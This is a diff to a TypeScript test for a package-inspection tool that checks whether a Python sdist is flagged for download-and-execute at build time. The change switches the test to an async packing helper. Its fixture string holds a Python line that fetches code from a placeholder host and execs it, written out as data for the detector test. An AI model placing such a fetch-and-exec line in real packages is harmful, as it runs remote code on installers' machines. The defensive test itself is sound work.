@@ -1,7 +1,7 @@
 import t from 'tap'
 import { inspect } from '../../src/inspection/inspect.ts'
 import { sha256 } from '../../src/model/digest.ts'
-import { readingOf } from './python-reading.ts'
+import { packedReading } from './python-reading.ts'
 
 const FETCHES =
   'import urllib.request\ndef use_setuptools():\n    exec(urllib.request.urlopen("https://keeper.invalid/e").read())\n'
@@ -15,7 +15,7 @@ async function fetchesAtBuild(setup: string): Promise<boolean> {
     'setup.py': setup,
     'ez_setup.py': FETCHES,
   }
-  const { findings } = await inspect(readingOf('sdist', files), { digest: sha256('x'), readAs: 'sdist-gzip' })
+  const { findings } = await inspect(await packedReading('sdist', files), { digest: sha256('x'), readAs: 'sdist-gzip' })
   return findings.some(({ check, moment }) => check === 'download-and-execute' && moment === 'build')
 }
 
